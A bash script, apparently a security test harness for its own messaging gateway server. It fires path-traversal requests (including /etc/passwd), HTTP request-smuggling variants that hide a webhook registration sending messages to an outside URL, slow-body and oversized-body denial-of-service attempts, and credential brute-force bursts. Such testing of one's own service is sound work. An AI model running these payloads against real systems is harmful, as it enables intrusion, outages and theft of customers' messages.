#!/usr/bin/env bash
# An attacker with curl and the shell's own TCP alone. HOST and PORT name the server, KEY is a customer's.
# Prints a line for each attack: its name, the statuses that came back, and the beginning of the first body.
set -u
exec 2>/dev/null
BASE="http://$HOST:$PORT"
FILE=$(mktemp)
trap 'rm -f "$FILE"' EXIT

times() { # times TEXT COUNT
  printf "%0.s$1" $(seq "$2")
}
say() { # say NAME STATUSES BODY
  printf '%s\t%s\t%s\n' "$1" "$2" "$(tr -d '\0\r\n\t' <<<"${3:0:200}")"
}
ask() { # ask NAME PATH [OPTIONS OF CURL]
  local name=$1 path=$2 out
  shift 2
  out=$(curl -s --globoff --path-as-is --max-time 60 -w '\n%{http_code}' "$@" "$BASE$path")
  say "$name" "${out##*$'\n'}" "${out%$'\n'*}"
}
raw() { # raw NAME BYTES, with the escapes of printf; every answer on the connection counts
  local out
  printf "$2" >"$FILE" # printf alone writes line by line, and loses the answer to an earlier line
  out=$(exec 3<>"/dev/tcp/$HOST/$PORT" && cat "$FILE" >&3; timeout 5 cat <&3 | tr -d '\0')
  say "$1" "$(grep -ao 'HTTP/1\.[01] [0-9]\{3\}' <<<"$out" | cut -d' ' -f2 | paste -sd,)" "${out#*$'\r\n\r\n'}"
}

attack_paths() {
  for sign in '<' '{' '"' '%%2F'; do
    for place in console gateway platform graph evolution metrics none; do
      ask "a long path of ${sign#%} at $place" "/$place/$(times "$sign" $((15000 / ${#sign})))/"
    done
  done
  for path in '/gateway/v1/phones/%00' '/gateway/v1/phones/..%2f..%2fadmin' '/gateway/../../../etc/passwd' '/gateway//v1/phones' \
    '/console/..%5c..%5cetc' '/files/%2e%2e/%2e%2e/recado.db' '/platform/v1/channels/%ff%fe' '/platform/v1/channels/%00' \
    '/gateway/v1/phones/%E2%80%AE' '/graph/v26.0/%00' '/evolution/instance/connect/%00'; do
    ask "the odd path $path" "$path"
  done
}

attack_forms() {
  local type="multipart/form-data; boundary=b"
  printf -- '--b\r\ncontent-disposition: form-data; name="file"; filename="a"\r\ncontent-type: N%sT\r\n\r\nx\r\n--b--\r\n' "$(times '\t' 15000)" >"$FILE"
  ask "a form's part of 15,000 tabs, without a key" /gateway/v1/media/files -H "content-type: $type" --data-binary "@$FILE"
  ask "a form's part of 15,000 tabs" /gateway/v1/media/files -H "x-api-key: $KEY" -H "content-type: $type" --data-binary "@$FILE"
  times -- '--b\r\n' 100000 | sed 's/^/ /' >"$FILE"
  ask "a form of boundaries" /gateway/v1/media/files -H "x-api-key: $KEY" -H "content-type: $type" --data-binary "@$FILE"
}

# what is hidden would register a webhook for the customer
attack_framing() {
  local body='{"label":"in the open","url":"https://hooks.example.com/","secret":"whsec_c2VjcmV0LW9mLXRoZS1hdHRhY2tlcg==","events":["message:received"],"allPhones":true}'
  local hidden="POST /gateway/v1/webhooks HTTP/1.1\r\nHost: $HOST\r\nX-API-Key: $KEY\r\nContent-Type: application/json\r\nContent-Length: ${#body}\r\nConnection: close\r\n\r\n$body"
  local post="POST /gateway/v1/messages HTTP/1.1\r\nHost: $HOST\r\n"
  raw "framing: a length and chunks" "${post}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n$hidden"
  raw "framing: two lengths" "${post}Content-Length: 0\r\nContent-Length: 400\r\n\r\n$hidden"
  raw "framing: a list of lengths" "${post}Content-Length: 0, 400\r\n\r\n$hidden"
  raw "framing: a length with a plus" "${post}Content-Length: +0\r\n\r\n$hidden"
  raw "framing: a negative length" "${post}Content-Length: -1\r\n\r\n$hidden"
  raw "framing: a hexadecimal length" "${post}Content-Length: 0x0\r\n\r\n$hidden"
  raw "framing: a coding that nobody knows" "${post}Transfer-Encoding: xchunked\r\n\r\n$hidden"
  raw "framing: a coding behind another" "${post}Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n$hidden"
  raw "framing: a blank before the colon" "${post}Content-Length : 0\r\nTransfer-Encoding : chunked\r\n\r\n$hidden"
  raw "framing: a line that is folded" "${post}Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n$hidden"
  raw "framing: a chunk's size below nothing" "${post}Transfer-Encoding: chunked\r\n\r\n-1\r\n\r\n$hidden"
  raw "framing: a chunk's size beyond all" "${post}Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n$hidden"
  raw "framing: a request behind a whole one" "${post}Content-Length: 0\r\n\r\nGET /gateway/v1/phones HTTP/1.1\r\nHost: $HOST\r\nConnection: close\r\n\r\n"
  raw "framing: line feeds alone" "POST /gateway/v1/messages HTTP/1.1\nHost: $HOST\nContent-Length: 0\n\n$hidden"
  raw "framing: no host" "GET /gateway/v1/phones HTTP/1.1\r\n\r\n"
  raw "framing: a zero byte in a header" "GET /gateway/v1/phones HTTP/1.1\r\nHost: $HOST\r\nX-A: a\0b\r\nConnection: close\r\n\r\n"
  raw "framing: HTTP/2 without being asked" "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
  raw "framing: no HTTP at all" "EHLO mail.example\r\n\r\n"
  raw "what was hidden, in the open" "$hidden"
}

attack_early() {
  head -c 4194304 /dev/zero | tr '\0' ' ' >"$FILE"
  for path in /gateway/v1/messages /gateway/v1/admin/accounts /platform/v1/auth/login /graph/v26.0/1/messages \
    /evolution/message/sendText/x /mcp /console/sign-in /metrics /none; do
    ask "4 MB at $path" "$path" -H 'content-type: application/json' -H 'expect:' --data-binary "@$FILE"
  done
}

# bodies that never come, on forty connections; what the first of them is answered is read at the end
attack_slowly() {
  local n
  for n in $(seq 40); do
    exec {slow}<>"/dev/tcp/$HOST/$PORT"
    printf 'POST /gateway/v1/messages HTTP/1.1\r\nHost: %s\r\nX-API-Key: %s\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{' \
      "$HOST" "$KEY" >&"$slow"
    [ "$n" = 1 ] && first=$slow
  done
  ask "health beside forty slow bodies" /gateway/health
  say "a slow body" "$(timeout 60 head -n 1 <&"$first" | cut -d' ' -f2)" ""
}

attack_credentials() {
  local n statuses
  for way in "key /gateway/v1/phones x-api-key:" "token /platform/v1/channels authorization:Bearer" "admin /gateway/v1/admin/accounts x-admin-token:"; do
    set -- $way
    statuses=$(curl -s -o /dev/null -w '%{http_code}\n' -H "$3 wrong" "$BASE$2?n=[1-1300]" | sort -u | paste -sd,)
    say "1,300 wrong credentials: $1" "$statuses" ""
  done
  statuses=$(for n in $(seq 40); do
    curl -s -o /dev/null -w '%{http_code}\n' -H 'content-type: application/json' \
      -d '{"email":"someone@example.com","password":"wrong-password"}' "$BASE/platform/v1/auth/login"
  done | sort -u | paste -sd,)
  say "40 wrong passwords" "$statuses" ""
}

attack_paths
attack_forms
attack_framing
attack_early
attack_slowly
attack_credentials
ask "health at the end" /gateway/health
